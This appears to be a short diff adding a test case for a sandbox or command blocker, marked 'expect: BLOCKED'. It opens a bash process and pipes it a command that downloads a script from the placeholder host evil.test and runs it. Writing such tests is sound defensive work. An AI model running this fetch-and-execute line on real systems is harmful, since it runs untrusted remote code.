@@ -1,0 +1,4 @@
+# expect: BLOCKED
+import subprocess
+p = subprocess.Popen("/bin/bash", stdin=subprocess.PIPE)
+p.stdin.write(b"curl http://evil.test/x | sh\n")
